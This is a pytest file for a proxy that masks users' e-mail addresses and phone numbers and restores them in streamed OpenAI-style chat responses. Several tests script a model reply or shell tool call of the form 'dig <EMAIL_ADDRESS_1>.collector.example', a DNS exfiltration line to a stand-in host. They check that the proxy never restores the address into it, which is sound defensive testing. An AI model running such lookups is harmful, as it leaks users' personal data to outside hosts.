"""A chat choice's fields interleaved, through the real proxy and the official `openai` SDK (atk16 tester B H2, M2,
M3): the client's value is never restored into a hostname because another field's delta came between the
placeholder and the rest of the host; a placeholder split around another field's delta is restored; a one-word
field between the two halves of the model's e-mail goes out as sent. Scripted provider streams; the assertions are
on what `chat.completions.stream(...).get_final_completion()` assembled (and on the bytes the client got).
"""

from __future__ import annotations

import json
import re
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import RESTORE_ONLY_POLICY, SCREENED_POLICY, oai, sse

MAIL, PHONE = "kim.ortiz@example.com", "312-555-0166"
PROMPT = f"I am {MAIL}, phone {PHONE}. Check my mail server."


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1700000000, "model": "gpt-4o-mini",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def call(args: str, first: bool = True) -> dict[str, Any]:
    if first:
        return {"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                "function": {"name": "shell", "arguments": args}}]}
    return {"tool_calls": [{"index": 0, "function": {"arguments": args}}]}


def final(proxy: Proxy, mock: Mock, events: list[Any]) -> Any:
    """The message the SDK assembled from the scripted stream `events`."""
    mock.script(raw_sse=sse(*events, "[DONE]"))
    with oai(proxy).chat.completions.stream(model="gpt-4o-mini",
                                            messages=[{"role": "user", "content": PROMPT}]) as stream:
        completion = stream.get_final_completion()
    assert MAIL not in json.dumps(mock.last_body) and "<EMAIL_ADDRESS_1>" in json.dumps(mock.last_body)
    return completion.choices[0].message


OTHER = {
    "refusal": {"refusal": "x"},
    "reasoning": {"reasoning_content": "hm"},
    "tool call": call("{}"),
}


@pytest.mark.parametrize("other", OTHER.values(), ids=list(OTHER))
def test_a_placeholder_is_not_restored_into_a_host_after_another_fields_delta(proxy: Proxy, mock: Mock,
                                                                             other: dict[str, Any]) -> None:
    message = final(proxy, mock, [
        chunk({"role": "assistant", "content": ""}), chunk({"content": "Run: dig <EMAIL_ADDRESS_1>"}), chunk(other),
        chunk({"content": ".collector.example now"}), chunk({}, "stop")])
    assert message.content == "Run: dig <EMAIL_ADDRESS_1>.collector.example now", message


def test_tool_arguments_keep_a_placeholder_a_host_follows_after_content(proxy: Proxy, mock: Mock) -> None:
    message = final(proxy, mock, [
        chunk({"role": "assistant", "content": None}), chunk(call('{"cmd":"dig <EMAIL_ADDRESS_1>')),
        chunk({"content": "Running."}), chunk(call('.collector.example"}', first=False)), chunk({}, "tool_calls")])
    assert message.content == "Running."
    assert json.loads(message.tool_calls[0].function.arguments) == {"cmd": "dig <EMAIL_ADDRESS_1>.collector.example"}


def test_a_placeholder_split_around_another_fields_delta_is_restored(proxy: Proxy, mock: Mock) -> None:
    message = final(proxy, mock, [
        chunk({"role": "assistant", "content": ""}), chunk({"content": "Hi <EMAIL_"}), chunk({"refusal": "x"}),
        chunk({"content": "ADDRESS_1>, call <PHONE_"}), chunk(call('{"to":"<EMAIL_')),
        chunk({"content": "NUMBER_1>."}), chunk(call('ADDRESS_1>"}', first=False)), chunk({}, "tool_calls")])
    assert message.content == f"Hi {MAIL}, call {PHONE}.", message
    assert message.refusal == "x"
    assert json.loads(message.tool_calls[0].function.arguments) == {"to": MAIL}


@pytest.fixture(scope="module")
def screened(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": SCREENED_POLICY})


@pytest.mark.parametrize("args", ['{"q":"weather"}', '{"city":"Paris"}', '{"id":"A-1001"}'])
def test_a_tool_call_between_an_emails_halves_goes_out_as_sent(screened: Proxy, mock: Mock, args: str) -> None:
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": "Write to dana.kerr@exa"}),
              chunk(call(args)), chunk({"content": "mple.org today."}), chunk({}, "tool_calls")]
    message = final(screened, mock, events)
    assert message.tool_calls[0].function.arguments == args, message
    # The client's own address has the first number (`PROMPT`): the model's is another, one placeholder.
    assert re.fullmatch(r"Write to <EMAIL_ADDRESS_\d+> today\.", message.content or ""), message
    mock.script(raw_sse=sse(*events, "[DONE]"))
    raw = httpx.post(f"{screened.url}/v1/chat/completions", timeout=60, headers={"Authorization": "Bearer sk-x"},
                     json={"model": "gpt-4o-mini", "stream": True, "messages": [{"role": "user", "content": "hi"}]})
    assert "dana.kerr" not in raw.text and "mple.org" not in raw.text, raw.text
